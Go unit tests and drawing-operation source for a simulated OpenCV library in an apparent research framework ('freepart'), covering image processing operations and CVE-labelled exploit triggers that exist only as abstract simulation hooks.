	for _, a := range reg.All() {
		counts[a.TrueType]++
		if a.Framework != simcv.Name {
			t.Errorf("%s has framework %q", a.Name, a.Framework)
		}
	}
	if counts[framework.TypeProcessing] < 70 {
		t.Errorf("DP count = %d, want >= 70", counts[framework.TypeProcessing])
	}
	if counts[framework.TypeLoading] < 5 || counts[framework.TypeVisualizing] < 6 || counts[framework.TypeStoring] < 2 {
		t.Errorf("type counts = %v", counts)
	}
}

func TestImageEncodeDecode(t *testing.T) {
	data := []byte{1, 2, 3, 4, 5, 6}
	enc, err := simcv.EncodeImage(2, 3, 1, data)
	if err != nil {
		t.Fatal(err)
	}
	r, c, ch, got, err := simcv.DecodeImage(enc)
	if err != nil || r != 2 || c != 3 || ch != 1 || string(got) != string(data) {
		t.Fatalf("decode = %d %d %d %v %v", r, c, ch, got, err)
	}
	if _, err := simcv.EncodeImage(2, 2, 1, data); err == nil {
		t.Fatal("mismatched encode should fail")
	}
	if _, _, _, _, err := simcv.DecodeImage([]byte("notimg")); err == nil {
		t.Fatal("garbage decode should fail")
	}
}

func TestImreadImwriteRoundTrip(t *testing.T) {
	e := newEnv(t)
	data := make([]byte, 6*4*3)
	for i := range data {
		data[i] = byte(i)
	}
	enc, _ := simcv.EncodeImage(6, 4, 3, data)
	e.k.FS.WriteFile("/in.img", enc)

	out := e.call(t, "cv.imread", framework.Str("/in.img"))
	m := e.matOf(t, out[0])
	if m.Rows() != 6 || m.Cols() != 4 || m.Channels() != 3 {
		t.Fatalf("imread shape = %v", m)
	}
	e.call(t, "cv.imwrite", framework.Str("/out.img"), out[0])
	stored, err := e.k.FS.ReadFile("/out.img")
	if err != nil || string(stored) != string(enc) {
		t.Fatalf("imwrite round trip failed: %v", err)
	}
}

func TestImreadExploitCrashes(t *testing.T) {
	e := newEnv(t)
	e.k.FS.WriteFile("/evil.img", framework.Trigger("CVE-2017-12597", nil))
	_, err := e.reg.MustGet("cv.imread").Exec(e.ctx, []framework.Value{framework.Str("/evil.img")})
	if !errors.Is(err, framework.ErrExploited) {
		t.Fatalf("err = %v", err)
	}
	if e.ctx.P.Alive() {
		t.Fatal("process should have crashed")
	}
}

func TestExploitForOtherAPIInert(t *testing.T) {
	// An imshow-CVE-crafted file fed to imread is garbage, not an exploit.
	e := newEnv(t)
	e.k.FS.WriteFile("/evil.img", framework.Trigger("CVE-2019-15939", nil))
	_, err := e.reg.MustGet("cv.imread").Exec(e.ctx, []framework.Value{framework.Str("/evil.img")})
	if errors.Is(err, framework.ErrExploited) {
		t.Fatal("imread must not fire imshow's CVE")
	}
	if err == nil {
		t.Fatal("garbage input should error as a decode failure")
	}
	if !e.ctx.P.Alive() {
		t.Fatal("decode failure should not crash the process")
	}
}

func TestVideoCaptureStream(t *testing.T) {
	e := newEnv(t)
	cam := kernel.NewCamera("/dev/camera0")
	frame, _ := simcv.EncodeImage(4, 4, 1, make([]byte, 16))
	cam.Push(frame)
	e.k.AddCamera(cam)

	h := e.call(t, "cv.VideoCapture", framework.Int64(0))[0]
	out := e.call(t, "cv.VideoCapture.read", h)
	if !out[0].Bool {
		t.Fatal("first read should succeed")
	}
	if e.matOf(t, out[1]).Rows() != 4 {
		t.Fatal("frame shape wrong")
	}
	out = e.call(t, "cv.VideoCapture.read", h)
	if out[0].Bool {
		t.Fatal("exhausted camera should report false")
	}
}

func TestThreshold(t *testing.T) {
	e := newEnv(t)
	out := e.call(t, "cv.threshold", e.grad(t), framework.Int64(100))
	m := e.matOf(t, out[0])
	lo, _ := m.At(0, 0, 0) // value 0 -> below threshold
	hi, _ := m.At(7, 7, 0) // value 252 -> above
	if lo != 0 || hi != 255 {
		t.Fatalf("threshold = %d, %d", lo, hi)
	}
}

func TestBitwiseNotInvolution(t *testing.T) {
	e := newEnv(t)
	in := e.grad(t)
	once := e.call(t, "cv.bitwise_not", in)[0]
	twice := e.call(t, "cv.bitwise_not", once)[0]
	orig, _ := object.PayloadBytes(e.matOf(t, in))
	back, _ := object.PayloadBytes(e.matOf(t, twice))
	if string(orig) != string(back) {
		t.Fatal("double inversion should restore the image")
	}
}

func TestBinaryOpsShapeMismatch(t *testing.T) {
	e := newEnv(t)
	a := e.grad(t)
	idB, _, _ := e.ctx.NewMat(4, 4, 1)
	b := framework.Obj(idB)
	if _, err := e.reg.MustGet("cv.add").Exec(e.ctx, []framework.Value{a, b}); err == nil {
		t.Fatal("shape mismatch should fail")
	}
}

func TestAddSaturates(t *testing.T) {
	e := newEnv(t)
	id1, m1, _ := e.ctx.NewMat(1, 1, 1)
	_ = m1.Set(0, 0, 0, 200)
	id2, m2, _ := e.ctx.NewMat(1, 1, 1)
	_ = m2.Set(0, 0, 0, 100)
	out := e.call(t, "cv.add", framework.Obj(id1), framework.Obj(id2))
	v, _ := e.matOf(t, out[0]).At(0, 0, 0)
	if v != 255 {
		t.Fatalf("saturating add = %d, want 255", v)
	}
}

func TestEqualizeHistSpreadsContrast(t *testing.T) {
	e := newEnv(t)
	// Low-contrast image: values clustered at 100..103.
	data := make([]byte, 64)
	for i := range data {
		data[i] = byte(100 + i%4)
	}
	id, _, _ := e.ctx.NewMatFromBytes(8, 8, 1, data)
	out := e.call(t, "cv.equalizeHist", framework.Obj(id))
	m := e.matOf(t, out[0])
	res, _ := object.PayloadBytes(m)
	lo, hi := res[0], res[0]
	for _, v := range res {
		if v < lo {
			lo = v
		}
		if v > hi {
			hi = v
		}
	}
	if int(hi)-int(lo) < 100 {
		t.Fatalf("equalize should stretch contrast, got [%d, %d]", lo, hi)
	}
}

func TestCvtColorGrayAndBack(t *testing.T) {
	e := newEnv(t)
	data := make([]byte, 4*4*3)
	for i := range data {
		data[i] = byte(i * 3)
	}
	id, _, _ := e.ctx.NewMatFromBytes(4, 4, 3, data)
	gray := e.call(t, "cv.cvtColor", framework.Obj(id), framework.Str("BGR2GRAY"))[0]
	gm := e.matOf(t, gray)
	if gm.Channels() != 1 {
		t.Fatal("gray should be single channel")
	}
	color := e.call(t, "cv.cvtColor", gray, framework.Str("GRAY2BGR"))[0]
	if e.matOf(t, color).Channels() != 3 {
		t.Fatal("GRAY2BGR should be 3-channel")
	}
	// cvtColor must be type-neutral.
	if api, _ := e.reg.Get("cv.cvtColor"); !api.Neutral {
		t.Fatal("cvtColor should be type-neutral")
	}
}

func TestSplitMergeRoundTrip(t *testing.T) {
	e := newEnv(t)
	data := make([]byte, 3*3*3)
	for i := range data {
		data[i] = byte(i * 2)
	}
	id, _, _ := e.ctx.NewMatFromBytes(3, 3, 3, data)
	planes := e.call(t, "cv.split", framework.Obj(id))
	if len(planes) != 3 {
		t.Fatalf("split produced %d planes", len(planes))
	}
	merged := e.call(t, "cv.merge", planes...)[0]
	got, _ := object.PayloadBytes(e.matOf(t, merged))
	if string(got) != string(data) {
		t.Fatal("split+merge should reconstruct the image")
	}
}

func TestGaussianBlurSmooths(t *testing.T) {
	e := newEnv(t)
	// Single bright pixel in the middle.
	data := make([]byte, 49)
	data[24] = 255
	id, _, _ := e.ctx.NewMatFromBytes(7, 7, 1, data)
	out := e.call(t, "cv.GaussianBlur", framework.Obj(id))
	m := e.matOf(t, out[0])
	center, _ := m.At(3, 3, 0)
	neighbor, _ := m.At(3, 4, 0)
	if center == 255 || neighbor == 0 {
		t.Fatalf("blur should spread energy: center=%d neighbor=%d", center, neighbor)
	}
	if center <= neighbor {
		t.Fatalf("center (%d) should remain brightest (%d)", center, neighbor)
	}
}

func TestErodeDilateOpposites(t *testing.T) {
	e := newEnv(t)
	data := make([]byte, 49)
	for r := 2; r <= 4; r++ {
		for c := 2; c <= 4; c++ {
			data[r*7+c] = 255
		}
	}
	id, _, _ := e.ctx.NewMatFromBytes(7, 7, 1, data)
	in := framework.Obj(id)
	er := e.matOf(t, e.call(t, "cv.erode", in)[0])
	di := e.matOf(t, e.call(t, "cv.dilate", in)[0])
	ec, _ := er.At(3, 3, 0)
	if ec != 255 {
		t.Fatal("erode should keep interior")
	}
	ee, _ := er.At(2, 2, 0)
	if ee != 0 {
		t.Fatal("erode should strip the boundary")
	}
	de, _ := di.At(1, 1, 0)
	if de != 255 {
		t.Fatal("dilate should grow the region")
	}
}

func TestMorphologyExModes(t *testing.T) {
	e := newEnv(t)
	in := e.grad(t)
	for _, mode := range []string{"open", "close", "gradient"} {
		out := e.call(t, "cv.morphologyEx", in, framework.Str(mode))
		if e.matOf(t, out[0]).Size() != 64 {
			t.Fatalf("morphologyEx %s wrong size", mode)
		}
	}
}

func TestCannyFindsEdge(t *testing.T) {
	e := newEnv(t)
	// Left half black, right half white: one vertical edge.
	data := make([]byte, 64)
	for r := 0; r < 8; r++ {
		for c := 4; c < 8; c++ {
			data[r*8+c] = 255
		}
	}
	id, _, _ := e.ctx.NewMatFromBytes(8, 8, 1, data)
	out := e.call(t, "cv.Canny", framework.Obj(id), framework.Int64(50))
	m := e.matOf(t, out[0])
	edge, _ := m.At(4, 4, 0)
	flat, _ := m.At(4, 6, 0)
	if edge != 255 || flat != 0 {
		t.Fatalf("canny edge=%d flat=%d", edge, flat)
	}
}

func TestResizeShapes(t *testing.T) {
	e := newEnv(t)
	out := e.call(t, "cv.resize", e.grad(t), framework.Int64(4), framework.Int64(16))
	m := e.matOf(t, out[0])
	if m.Rows() != 4 || m.Cols() != 16 {
		t.Fatalf("resize = %v", m)
	}
	if _, err := e.reg.MustGet("cv.resize").Exec(e.ctx, []framework.Value{e.grad(t), framework.Int64(0), framework.Int64(5)}); err == nil {
		t.Fatal("resize to zero should fail")
	}
}

func TestFlipTransposeRotate(t *testing.T) {
	e := newEnv(t)
	data := []byte{1, 2, 3, 4, 5, 6}
	id, _, _ := e.ctx.NewMatFromBytes(2, 3, 1, data)
	in := framework.Obj(id)

	fl := e.matOf(t, e.call(t, "cv.flip", in, framework.Int64(1))[0])
	v, _ := fl.At(0, 0, 0)
	if v != 3 {
		t.Fatalf("hflip[0][0] = %d, want 3", v)
	}
	tr := e.matOf(t, e.call(t, "cv.transpose", in)[0])
	if tr.Rows() != 3 || tr.Cols() != 2 {
		t.Fatal("transpose shape wrong")
	}
	tv, _ := tr.At(0, 1, 0)
	if tv != 4 {
		t.Fatalf("transpose[0][1] = %d, want 4", tv)
	}
	ro := e.matOf(t, e.call(t, "cv.rotate", in)[0])
	if ro.Rows() != 3 || ro.Cols() != 2 {
		t.Fatal("rotate shape wrong")
	}
	rv, _ := ro.At(0, 0, 0) // 90° cw: old (1,0)=4 moves to (0,0)
	if rv != 4 {
		t.Fatalf("rotate[0][0] = %d, want 4", rv)
	}
}

func TestWarpPerspectiveIdentity(t *testing.T) {
	e := newEnv(t)
	in := e.grad(t)
	hid, h, _ := e.ctx.NewTensor(3, 3)
	_ = h.Set(1, 0, 0)
	_ = h.Set(1, 1, 1)
	_ = h.Set(1, 2, 2)
	out := e.call(t, "cv.warpPerspective", in, framework.Obj(hid))
	got, _ := object.PayloadBytes(e.matOf(t, out[0]))
	orig, _ := object.PayloadBytes(e.matOf(t, in))
	if string(got) != string(orig) {
		t.Fatal("identity warp should preserve the image")
	}
}

func TestGetRectSubPixCropAndBounds(t *testing.T) {
	e := newEnv(t)
	out := e.call(t, "cv.getRectSubPix", e.grad(t),
		framework.Int64(2), framework.Int64(2), framework.Int64(4), framework.Int64(3))
	m := e.matOf(t, out[0])
	if m.Rows() != 3 || m.Cols() != 4 {
		t.Fatalf("crop shape = %v", m)
	}
	v, _ := m.At(0, 0, 0)
	if v != byte((2*8+2)*4) {
		t.Fatalf("crop origin pixel = %d", v)
	}
	_, err := e.reg.MustGet("cv.getRectSubPix").Exec(e.ctx, []framework.Value{
		e.grad(t), framework.Int64(6), framework.Int64(6), framework.Int64(8), framework.Int64(8)})
	if err == nil {
		t.Fatal("out-of-bounds crop should fail")
	}
}

func TestFindContoursCountsBlobs(t *testing.T) {
	e := newEnv(t)
	data := make([]byte, 100)
	// Two separate 2x2 blobs.
	for _, at := range [][2]int{{1, 1}, {1, 2}, {2, 1}, {2, 2}, {6, 6}, {6, 7}, {7, 6}, {7, 7}} {
		data[at[0]*10+at[1]] = 255
	}
	id, _, _ := e.ctx.NewMatFromBytes(10, 10, 1, data)
	out := e.call(t, "cv.findContours", framework.Obj(id))
	if out[1].Int != 2 {
		t.Fatalf("found %d contours, want 2", out[1].Int)
	}
	// boundingRect of contour 0.
	rect := e.call(t, "cv.boundingRect", out[0], framework.Int64(0))
	if rect[0].Int != 1 || rect[1].Int != 1 || rect[2].Int != 2 || rect[3].Int != 2 {
		t.Fatalf("rect = %v", rect)
	}
	area := e.call(t, "cv.contourArea", out[0], framework.Int64(0))
	if area[0].Float != 4 {
		t.Fatalf("area = %v", area[0].Float)
	}
}

func TestCountNonZeroMeanMinMax(t *testing.T) {
	e := newEnv(t)
	data := []byte{0, 10, 0, 30}
	id, _, _ := e.ctx.NewMatFromBytes(2, 2, 1, data)
	in := framework.Obj(id)
	if n := e.call(t, "cv.countNonZero", in)[0].Int; n != 2 {
		t.Fatalf("countNonZero = %d", n)
	}
	if m := e.call(t, "cv.mean", in)[0].Float; m != 10 {
		t.Fatalf("mean = %v", m)
	}
	mm := e.call(t, "cv.minMaxLoc", in)
	if mm[0].Int != 0 || mm[1].Int != 30 {
		t.Fatalf("minMax = %v", mm)
	}
	if s := e.call(t, "cv.sum", in)[0].Int; s != 40 {
		t.Fatalf("sum = %d", s)
	}
}

func TestCalcHistAndCompare(t *testing.T) {
	e := newEnv(t)
	a := e.grad(t)
	h1 := e.call(t, "cv.calcHist", a)[0]
	h2 := e.call(t, "cv.calcHist", a)[0]
	same := e.call(t, "cv.compareHist", h1, h2)[0].Float
	if same != 0 {
		t.Fatalf("identical histograms should compare to 0, got %v", same)
	}
	idB, mB, _ := e.ctx.NewMat(8, 8, 1)
	for r := 0; r < 8; r++ {
		for c := 0; c < 8; c++ {
			_ = mB.Set(r, c, 0, 255)
		}
	}
	h3 := e.call(t, "cv.calcHist", framework.Obj(idB))[0]
	diff := e.call(t, "cv.compareHist", h1, h3)[0].Float
	if diff <= 0 {
		t.Fatalf("different histograms should compare > 0, got %v", diff)
	}
}

func TestRectangleDrawsInPlace(t *testing.T) {
	e := newEnv(t)
	in := e.grad(t)
	out := e.call(t, "cv.rectangle", in, framework.Int64(1), framework.Int64(1), framework.Int64(4), framework.Int64(4))
	if out[0].Obj != in.Obj {
		t.Fatal("rectangle should return its canvas argument")
	}
	m := e.matOf(t, in)
	v, _ := m.At(1, 1, 0)
	if v != 255 {
		t.Fatal("rectangle should draw on the original mat (in-place)")
	}
	inside, _ := m.At(2, 2, 0)
	if inside == 255 {
		t.Fatal("rectangle should not fill the interior")
	}
}

func TestDrawingOnReadOnlyMatFaults(t *testing.T) {
	e := newEnv(t)
	in := e.grad(t)
	m := e.matOf(t, in)
	if _, err := m.Space().ProtectRegion(m.Region(), 1 /* read-only */); err != nil {
		t.Fatal(err)
	}
	_, err := e.reg.MustGet("cv.rectangle").Exec(e.ctx, []framework.Value{in})
	if err == nil {
		t.Fatal("drawing on a read-only mat must fault")
	}
	if !strings.Contains(err.Error(), "fault") {
		t.Fatalf("expected a memory fault, got %v", err)
	}
}

func TestImshowAndWindowOps(t *testing.T) {
	e := newEnv(t)
	e.call(t, "cv.namedWindow", framework.Str("w"))
	e.call(t, "cv.imshow", framework.Str("w"), e.grad(t))
	if e.k.GUI.Windows() != 1 {
		t.Fatal("imshow should create/paint a window")
	}
	e.call(t, "cv.moveWindow", framework.Str("w"))
	e.call(t, "cv.setWindowTitle", framework.Str("w"))
	e.call(t, "cv.destroyAllWindows")
	if e.k.GUI.Windows() != 0 {
		t.Fatal("destroyAllWindows should close windows")
	}
}

func TestPollKeyQueue(t *testing.T) {
	e := newEnv(t)
	e.k.GUI.PushKey('s')
	if k := e.call(t, "cv.pollKey")[0].Int; k != 's' {
		t.Fatalf("pollKey = %d", k)
	}
	if k := e.call(t, "cv.waitKey")[0].Int; k != -1 {
		t.Fatalf("drained waitKey = %d", k)
	}
}

func TestCascadeDetect(t *testing.T) {
	e := newEnv(t)
	e.k.FS.WriteFile("/model.xml", simcv.EncodeClassifier(100, 4))
	model := e.call(t, "cv.CascadeClassifier", framework.Str("/model.xml"))[0]
	// Bright 4x4 block at top-left on dark background.
	data := make([]byte, 144)
	for r := 0; r < 4; r++ {
		for c := 0; c < 4; c++ {
			data[r*12+c] = 250
		}
	}
	id, _, _ := e.ctx.NewMatFromBytes(12, 12, 1, data)
	out := e.call(t, "cv.CascadeClassifier.detectMultiScale", model, framework.Obj(id))
	if out[1].Int < 1 {
		t.Fatal("should detect the bright window")
	}
	dets, _ := e.ctx.Tensor(out[0])
	x, _ := dets.At(0, 0)
	y, _ := dets.At(0, 1)
	if x != 0 || y != 0 {
		t.Fatalf("first detection at (%v,%v), want (0,0)", x, y)
	}
}

func TestCascadeRejectsGarbageModel(t *testing.T) {
	e := newEnv(t)
	e.k.FS.WriteFile("/bad.xml", []byte("not a cascade"))
	if _, err := e.reg.MustGet("cv.CascadeClassifier").Exec(e.ctx, []framework.Value{framework.Str("/bad.xml")}); err == nil {
		t.Fatal("garbage model should fail")
	}
}

func TestKalmanPredictCorrect(t *testing.T) {
	e := newEnv(t)
	id, st, _ := e.ctx.NewTensor(4)
	_ = st.SetValues([]float64{10, 20, 1, 2})
	out := e.call(t, "cv.KalmanFilter.predict", framework.Obj(id))
	if out[0].Float != 11 || out[1].Float != 22 {
		t.Fatalf("predict = %v", out)
	}
	// State mutated in place — the shared-state property.
	x, _ := st.AtFlat(0)
	if x != 11 {
		t.Fatal("predict should update the shared state tensor")
	}
	out = e.call(t, "cv.KalmanFilter.correct", framework.Obj(id), framework.Float64(15), framework.Float64(22))
	if out[0].Float != 13 { // 11 + 0.5*(15-11)
		t.Fatalf("correct x = %v", out[0].Float)
	}
}

func TestOpticalFlowRoundTrip(t *testing.T) {
	e := newEnv(t)
	fid, flow, _ := e.ctx.NewTensor(2, 2, 2)
	_ = flow.SetValues([]float64{1, 0, 0, 1, -1, 0, 0, -1})
	e.call(t, "cv.writeOpticalFlow", framework.Str("/f.flo"), framework.Obj(fid))
	out := e.call(t, "cv.readOpticalFlow", framework.Str("/f.flo"))
	rt, _ := e.ctx.Tensor(out[0])
	v, _ := rt.At(1, 0, 0)
	if v != -1 {
		t.Fatalf("flow round trip = %v", v)
	}
}

func TestVideoWriterAppends(t *testing.T) {
	e := newEnv(t)
	w := e.call(t, "cv.VideoWriter", framework.Str("/out.vid"))[0]
	e.call(t, "cv.VideoWriter.write", w, e.grad(t))
	e.call(t, "cv.VideoWriter.write", w, e.grad(t))
	if size := e.k.FS.Size("/out.vid"); size != 2*(16+64) {
		t.Fatalf("video size = %d", size)
	}
}

func TestPyrDownUp(t *testing.T) {
	e := newEnv(t)
	down := e.matOf(t, e.call(t, "cv.pyrDown", e.grad(t))[0])
	if down.Rows() != 4 || down.Cols() != 4 {
		t.Fatalf("pyrDown shape = %v", down)
	}
	up := e.matOf(t, e.call(t, "cv.pyrUp", e.grad(t))[0])
	if up.Rows() != 16 || up.Cols() != 16 {
		t.Fatalf("pyrUp shape = %v", up)
	}
}

func TestMatchTemplateFindsPatch(t *testing.T) {
	e := newEnv(t)
	img := make([]byte, 100)
	for r := 4; r < 7; r++ {
		for c := 4; c < 7; c++ {
			img[r*10+c] = 200
		}
	}
	iid, _, _ := e.ctx.NewMatFromBytes(10, 10, 1, img)
	tpl := make([]byte, 9)
	for i := range tpl {
		tpl[i] = 200
	}
	tid, _, _ := e.ctx.NewMatFromBytes(3, 3, 1, tpl)
	out := e.call(t, "cv.matchTemplate", framework.Obj(iid), framework.Obj(tid))
	resp := e.matOf(t, out[0])
	best, _ := resp.At(4, 4, 0)
	corner, _ := resp.At(0, 0, 0)
	if best <= corner {
		t.Fatalf("match at patch (%d) should beat corner (%d)", best, corner)
	}
}

func TestAllDPAPIsHaveMemOps(t *testing.T) {
	for _, a := range simcv.Registry().All() {
		if a.TrueType != framework.TypeProcessing {
			continue
		}
		found := false
		for _, op := range a.StaticOps {
			if op.DstValid && op.Dst == framework.StorageMem && op.Src == framework.StorageMem {
				found = true
			}
		}
		if !found {
			t.Errorf("%s lacks W(MEM, R(MEM)) static op", a.Name)
		}
	}
}

func TestVulnerableAPIsMatchTable5(t *testing.T) {
	reg := simcv.Registry()
	for api, cve := range map[string]string{
		"cv.imread":            "CVE-2017-12597",
		"cv.imshow":            "CVE-2019-15939",
		"cv.warpPerspective":   "CVE-2019-5064",
		"cv.equalizeHist":      "CVE-2019-14492",
		"cv.findContours":      "CVE-2019-14493",
		"cv.VideoCapture.read": "CVE-2017-12605",
	} {
		a := reg.MustGet(api)
		if !a.HasCVE(cve) {
			t.Errorf("%s should carry %s", api, cve)
		}
	}
}
