package simcv

import (
	"math"

	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/object"
)

// drawFn mutates image bytes in place.
type drawFn func(m *object.Mat, data []byte, args []framework.Value) error

// drawAPI builds an in-place drawing operation. Drawing APIs mutate their
// first argument (the canvas) rather than returning a new mat — the
// out-parameter path the RPC layer's UpdatedArgs exists for (Fig. 10-(c),
// agent_update_arg). The mutated mat is also returned for convenience.
func drawAPI(name string, intensity float64, fn drawFn) *framework.API {
	var api *framework.API
	api = &framework.API{
		Name: name, Framework: Name, TrueType: framework.TypeProcessing,
		StaticOps: memOps(), Syscalls: dpSyscalls(), Intensity: intensity,
		Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
			if err := needArgs(name, args, 1); err != nil {
				return nil, err
			}
			m, data, err := matAndBytes(ctx, args[0])
			if err != nil {
				return nil, err
			}
			if fired, err := ctx.MaybeExploit(api, data); fired {
				return nil, err
			}
			ctx.Charge(len(data), intensity)
			ctx.EmitMemOp()
			if err := fn(m, data, args); err != nil {
				return nil, err
			}
			// Write the mutated canvas back through the MMU.
			if err := m.Space().Store(m.Region().Base, data); err != nil {
				return nil, err
			}
			return []framework.Value{args[0]}, nil
		},
	}
	return api
}

// rectArgs extracts (x, y, w, h) beginning at args[i], with defaults.
func rectArgs(m *object.Mat, args []framework.Value, i int) (x, y, w, h int) {
	x, y = 0, 0
	w, h = m.Cols()/4, m.Rows()/4
	if len(args) > i+3 {
		x, y, w, h = int(args[i].Int), int(args[i+1].Int), int(args[i+2].Int), int(args[i+3].Int)
	}
	return x, y, w, h
}

// setPix writes one pixel on all channels if in bounds.
func setPix(m *object.Mat, data []byte, r, c int, v byte) {
	if r < 0 || r >= m.Rows() || c < 0 || c >= m.Cols() {
		return
	}
	for z := 0; z < m.Channels(); z++ {
		data[(r*m.Cols()+c)*m.Channels()+z] = v
	}
}

// registerDrawing installs the in-place annotation operations — including
// cv.rectangle and cv.putText, the two hot-loop APIs the Fig. 4 partition
// sweep turns on.
func registerDrawing(r *framework.Registry) {
	r.Register(drawAPI("cv.rectangle", 0.05,
		func(m *object.Mat, data []byte, args []framework.Value) error {
			x, y, w, h := rectArgs(m, args, 1)
			for c := x; c < x+w; c++ {
				setPix(m, data, y, c, 255)
				setPix(m, data, y+h-1, c, 255)
			}
			for rr := y; rr < y+h; rr++ {
				setPix(m, data, rr, x, 255)
				setPix(m, data, rr, x+w-1, 255)
			}
			return nil
		}))

	r.Register(drawAPI("cv.putText", 0.05,
		func(m *object.Mat, data []byte, args []framework.Value) error {
			// Stamp a 5x3 block per character at (x, y).
			text := "?"
			x, y := 2, 2
			if len(args) > 1 {
				text = args[1].Str
			}
			if len(args) > 3 {
				x, y = int(args[2].Int), int(args[3].Int)
			}
			for i, chr := range []byte(text) {
				for dr := 0; dr < 5; dr++ {
					for dc := 0; dc < 3; dc++ {
						if (int(chr)+dr+dc)%2 == 0 {
							setPix(m, data, y+dr, x+i*4+dc, 255)
						}
					}
				}
			}
			return nil
		}))

	r.Register(drawAPI("cv.line", 0.05,
		func(m *object.Mat, data []byte, args []framework.Value) error {
			x0, y0, x1, y1 := 0, 0, m.Cols()-1, m.Rows()-1
			if len(args) > 4 {
				x0, y0, x1, y1 = int(args[1].Int), int(args[2].Int), int(args[3].Int), int(args[4].Int)
			}
			// Bresenham.
			dx, dy := abs(x1-x0), -abs(y1-y0)
			sx, sy := 1, 1
			if x0 > x1 {
				sx = -1
			}
			if y0 > y1 {
				sy = -1
			}
			e := dx + dy
			for {
				setPix(m, data, y0, x0, 255)
				if x0 == x1 && y0 == y1 {
					break
				}
				if 2*e >= dy {
					e += dy
					x0 += sx
				}
				if 2*e <= dx {
					e += dx
					y0 += sy
				}
			}
			return nil
		}))

	r.Register(drawAPI("cv.circle", 0.05,
		func(m *object.Mat, data []byte, args []framework.Value) error {
			cx, cy, rad := m.Cols()/2, m.Rows()/2, min(m.Cols(), m.Rows())/4
			if len(args) > 3 {
				cx, cy, rad = int(args[1].Int), int(args[2].Int), int(args[3].Int)
			}
			// Midpoint circle.
			x, y, e := rad, 0, 1-rad
			for x >= y {
				for _, p := range [8][2]int{{x, y}, {y, x}, {-x, y}, {-y, x}, {x, -y}, {y, -x}, {-x, -y}, {-y, -x}} {
					setPix(m, data, cy+p[1], cx+p[0], 255)
				}
				y++
				if e < 0 {
					e += 2*y + 1
				} else {
					x--
					e += 2*(y-x) + 1
				}
			}
			return nil
		}))

	r.Register(drawAPI("cv.arrowedLine", 0.05,
		func(m *object.Mat, data []byte, args []framework.Value) error {
			x0, y0, x1, y1 := 0, 0, m.Cols()-1, m.Rows()-1
			if len(args) > 4 {
				x0, y0, x1, y1 = int(args[1].Int), int(args[2].Int), int(args[3].Int), int(args[4].Int)
			}
			steps := max(abs(x1-x0), abs(y1-y0))
			if steps == 0 {
				steps = 1
			}
			for i := 0; i <= steps; i++ {
				setPix(m, data, y0+(y1-y0)*i/steps, x0+(x1-x0)*i/steps, 255)
			}
			// Arrow head.
			setPix(m, data, y1-1, x1, 255)
			setPix(m, data, y1, x1-1, 255)
			return nil
		}))

	r.Register(drawAPI("cv.ellipse", 0.2,
		func(m *object.Mat, data []byte, args []framework.Value) error {
			cx, cy := m.Cols()/2, m.Rows()/2
			a, b := m.Cols()/3, m.Rows()/4
			if len(args) > 4 {
				cx, cy, a, b = int(args[1].Int), int(args[2].Int), int(args[3].Int), int(args[4].Int)
			}
			if a <= 0 || b <= 0 {
				return errorString("simcv: ellipse axes must be positive")
			}
			for deg := 0; deg < 360; deg++ {
				rad := float64(deg) * 3.14159265 / 180
				x := cx + int(float64(a)*math.Cos(rad))
				y := cy + int(float64(b)*math.Sin(rad))
				setPix(m, data, y, x, 255)
			}
			return nil
		}))

	r.Register(drawAPI("cv.polylines", 0.05,
		func(m *object.Mat, data []byte, args []framework.Value) error {
			// Closed box through the arg points (x,y pairs), default frame.
			pts := [][2]int{{0, 0}, {m.Cols() - 1, 0}, {m.Cols() - 1, m.Rows() - 1}, {0, m.Rows() - 1}}
			for i := 0; i < len(pts); i++ {
				p, q := pts[i], pts[(i+1)%len(pts)]
				steps := max(abs(q[0]-p[0]), abs(q[1]-p[1]))
				if steps == 0 {
					steps = 1
				}
				for s := 0; s <= steps; s++ {
					setPix(m, data, p[1]+(q[1]-p[1])*s/steps, p[0]+(q[0]-p[0])*s/steps, 255)
				}
			}
			return nil
		}))

	r.Register(drawAPI("cv.fillPoly", 2,
		func(m *object.Mat, data []byte, args []framework.Value) error {
			x, y, w, h := rectArgs(m, args, 1)
			for rr := y; rr < y+h; rr++ {
				for cc := x; cc < x+w; cc++ {
					setPix(m, data, rr, cc, 255)
				}
			}
			return nil
		}))

	r.Register(drawAPI("cv.drawMarker", 0.02,
		func(m *object.Mat, data []byte, args []framework.Value) error {
			cx, cy := m.Cols()/2, m.Rows()/2
			if len(args) > 2 {
				cx, cy = int(args[1].Int), int(args[2].Int)
			}
			for d := -3; d <= 3; d++ {
				setPix(m, data, cy, cx+d, 255)
				setPix(m, data, cy+d, cx, 255)
			}
			return nil
		}))

	// drawContours draws boxes from a contour tensor onto the canvas.
	var dcAPI *framework.API
	dcAPI = &framework.API{
		Name: "cv.drawContours", Framework: Name, TrueType: framework.TypeProcessing,
		StaticOps: memOps(), Syscalls: dpSyscalls(), Intensity: 1,
		Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
			if err := needArgs("cv.drawContours", args, 2); err != nil {
				return nil, err
			}
			m, data, err := matAndBytes(ctx, args[0])
			if err != nil {
				return nil, err
			}
			if fired, err := ctx.MaybeExploit(dcAPI, data); fired {
				return nil, err
			}
			t, err := ctx.Tensor(args[1])
			if err != nil {
				return nil, err
			}
			sh := t.Shape()
			if len(sh) != 2 || sh[1] < 4 {
				return nil, errorString("simcv: drawContours wants Nx5 contour tensor")
			}
			ctx.Charge(len(data), 1)
			ctx.EmitMemOp()
			for i := 0; i < sh[0]; i++ {
				minR, _ := t.At(i, 0)
				minC, _ := t.At(i, 1)
				maxR, _ := t.At(i, 2)
				maxC, _ := t.At(i, 3)
				for c := int(minC); c <= int(maxC); c++ {
					setPix(m, data, int(minR), c, 255)
					setPix(m, data, int(maxR), c, 255)
				}
				for rr := int(minR); rr <= int(maxR); rr++ {
					setPix(m, data, rr, int(minC), 255)
					setPix(m, data, rr, int(maxC), 255)
				}
			}
			if err := m.Space().Store(m.Region().Base, data); err != nil {
				return nil, err
			}
			return []framework.Value{args[0]}, nil
		},
	}
	r.Register(dcAPI)
}

func abs(v int) int {
	if v < 0 {
		return -v
	}
	return v
}
