package simcv

import (
	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/kernel"
	"freepart.dev/freepart/internal/object"
)

// memOps is the canonical data-processing flow W(MEM, R(MEM)).
func memOps() []framework.Op {
	return []framework.Op{framework.WriteOp(framework.StorageMem, framework.StorageMem)}
}

// dpSyscalls is the default syscall footprint of a compute-only API.
